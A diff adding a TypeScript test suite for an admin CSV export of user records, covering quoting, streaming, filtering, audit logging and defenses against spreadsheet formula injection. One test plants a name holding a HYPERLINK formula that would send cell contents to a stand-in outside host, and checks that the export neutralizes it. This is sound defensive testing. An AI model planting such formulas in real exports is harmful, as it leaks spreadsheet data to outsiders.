@@ -1,0 +1,175 @@
+import { env } from 'cloudflare:workers'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { csvStream } from '../../../src/admin/csv/csv-stream.ts'
+import { createD1 } from '../../../src/db/d1.ts'
+import type { OpenDatabase } from '../../../src/db/database.ts'
+import { insertManyPeople } from '../../support/many-people.ts'
+import { createStaff } from '../../support/staff.ts'
+import type { TestStaff } from '../../support/staff.ts'
+import { createTestApp } from '../../support/test-app.ts'
+import type { TestApp } from '../../support/test-app.ts'
+
+const PEOPLE = 10_250
+const test = createTestApp()
+let superuser: TestStaff
+
+beforeAll(async () => {
+  await insertManyPeople(PEOPLE)
+  superuser = await createStaff('superuser')
+})
+
+/** A reader of RFC 4180 that knows nothing of how the file was written. */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = [[]]
+  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y
+  while (cells.lastIndex < text.length) {
+    const [, quoted, plain = '', end] = cells.exec(text) ?? []
+    if (end === undefined) throw new Error('no CSV')
+    rows.at(-1)!.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
+    if (end === '\r\n') rows.push([])
+  }
+  return rows.slice(0, -1)
+}
+
+const decode = (bytes: ArrayBuffer) => new TextDecoder('utf-8', { ignoreBOM: true, fatal: true }).decode(bytes)
+
+async function download(query = '', { app = test, language = 'en' }: { app?: TestApp; language?: string } = {}) {
+  const headers = { 'Accept-Language': language }
+  return app.request('GET', `/api/v1/admin/users.csv${query}`, { token: superuser.token, headers })
+}
+
+const file = async (values: unknown[]) => {
+  const pages = async function* () {
+    yield values
+  }
+  const stream = await csvStream([{ title: 'A', value: (value: unknown) => value as string }], pages())
+  return decode(await new Response(stream).arrayBuffer()).slice(1)
+}
+
+describe('a file', () => {
+  it.each([
+    ['=1+1', `"'=1+1"`],
+    ['+79174445566', `"'+79174445566"`],
+    ['-2', `"'-2"`],
+    ['@SUM(A1)', `"'@SUM(A1)"`],
+    ['\t=1', `"'\t=1"`],
+    ['\r=1', `"'\r=1"`],
+    ['\n=1', `"'\n=1"`],
+    ['  =1', `"'  =1"`],
+    ['＝1+1', `"'＝1+1"`],
+    ['a;=1', '"a;=1"'],
+    ['say "=1"', '"say ""=1"""'],
+    ['a,b', '"a,b"'],
+    ['Ёжик 🦔', '"Ёжик 🦔"'],
+    [null, ''],
+    [-5, '-5'],
+    [true, 'true'],
+  ])('writes %j as %s', async (value, cell) => {
+    expect(await file([value])).toBe(`"A"\r\n${cell}\r\n`)
+  })
+
+  it('passes over empty pages, and tells the source when nobody reads on', async () => {
+    let [read, ended] = [0, false]
+    const pages = async function* () {
+      try {
+        for (;;) {
+          read += 1
+          yield read % 2 === 0 ? [read] : []
+        }
+      } finally {
+        ended = true
+      }
+    }
+    const stream = await csvStream([{ title: 'A', value: (value: number) => value }], pages())
+    const reader = stream.getReader()
+    const chunks = [await reader.read(), await reader.read(), await reader.read()]
+    expect(chunks.map(({ value }) => new TextDecoder().decode(value))).toEqual(['"A"\r\n', '2\r\n', '4\r\n'])
+    // One page ahead of the reader at the most: the list is never in memory.
+    expect(read).toBe(4)
+    await reader.cancel()
+    expect(ended).toBe(true)
+  })
+})
+
+describe('GET /admin/users.csv', () => {
+  it('holds everybody whom the list holds, once', async () => {
+    const response = await download()
+    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/)
+    expect(response.headers.get('content-disposition')).toBe('attachment; filename="people.csv"')
+    expect(response.headers.get('cache-control')).toBe('no-store')
+    const text = decode(await response.arrayBuffer())
+    expect(text.startsWith('\uFEFF"Id","Phone","E-mail"')).toBe(true)
+    const [, ...rows] = readCsv(text.slice(1))
+    const { results } = await env.DB.prepare(
+      'SELECT id, phone, country FROM users WHERE deleted_at IS NULL ORDER BY id DESC',
+    ).all<{ id: number; phone: string | null; country: string | null }>()
+    expect(rows.length).toBeGreaterThan(10_000)
+    expect(rows.map(([id, phone, , , , , , , , country]) => [id, phone, country])).toEqual(
+      results.map(({ id, phone, country }) => [String(id), phone === null ? '' : `'${phone}`, country ?? '']),
+    )
+  })
+
+  it('keeps the filter and the order, and its headings are in the language', async () => {
+    const response = await download('?country=DE&active=false&ordering=oldest', { language: 'ru' })
+    const [heading, ...rows] = readCsv(decode(await response.arrayBuffer()).slice(1))
+    expect(heading).toEqual(expect.arrayContaining(['Телефон', 'Страна', 'Причина блокировки']))
+    const { results } = await env.DB.prepare(
+      `SELECT id FROM users WHERE country = 'DE' AND NOT is_active AND deleted_at IS NULL ORDER BY id`,
+    ).all<{ id: number }>()
+    expect(rows.map(([id]) => Number(id))).toEqual(results.map(({ id }) => id))
+  })
+
+  it('makes names that are formulas inert', async () => {
+    const name = '=HYPERLINK("http://x.example?"&A1,"ok")'
+    await env.DB.prepare('UPDATE users SET first_name = ? WHERE id = 2').bind(name).run()
+    const [, row] = readCsv(decode(await (await download('?search=HYPERLINK')).arrayBuffer()).slice(1))
+    expect(row?.[3]).toBe(`'${name}`)
+  })
+
+  it('records that it was taken, and never what was searched for', async () => {
+    await (await download('?search=79175000017&country=RU')).arrayBuffer()
+    const event = await env.DB.prepare(
+      `SELECT * FROM audit_events WHERE action = 'list_exported' ORDER BY id DESC LIMIT 1`,
+    ).first()
+    expect(event).toMatchObject({ actor: 'staff', actor_id: superuser.id, subject_id: null, outcome: 'ok' })
+    expect(JSON.parse(String(event?.['details']))).toEqual({ list: 'people', filter: { search: true, country: 'RU' } })
+  })
+
+  it('is read from the database no faster than by its reader, 500 people at a time', async () => {
+    test.d1.reset()
+    const response = await download()
+    const reader = response.body!.getReader()
+    const trips: number[] = []
+    for (let i = 0; i < 4; i += 1) {
+      await reader.read()
+      trips.push(test.d1.counts.trips)
+    }
+    // The sign-in, the audit and the first page; then one page for each chunk.
+    expect(trips).toEqual([3, 4, 5, 6])
+    await reader.cancel()
+    expect(test.d1.counts.trips).toBe(6)
+  })
+
+  it('breaks off when the database does, and does not end as if it were whole', async () => {
+    const open = createD1(env.DB)
+    let batches = 0
+    const failing: OpenDatabase = (...args) => {
+      const session = open(...args)
+      const batch = session.db.batch.bind(session.db)
+      const counted = async (queries: Parameters<typeof batch>[0]) => {
+        batches += 1
+        if (batches > 6) throw new Error('overloaded')
+        return batch(queries)
+      }
+      return { ...session, db: Object.assign(session.db, { batch: counted }) }
+    }
+    const response = await download('', { app: createTestApp({ ports: { openDatabase: failing } }) })
+    expect(response.status).toBe(200)
+    let bytes = 0
+    const readAll = async () => {
+      for await (const chunk of response.body as unknown as AsyncIterable<Uint8Array>) bytes += chunk.length
+    }
+    await expect(readAll()).rejects.toMatchObject({ code: 'storage_unavailable' })
+    expect(bytes).toBeGreaterThan(10_000)
+  })
+})
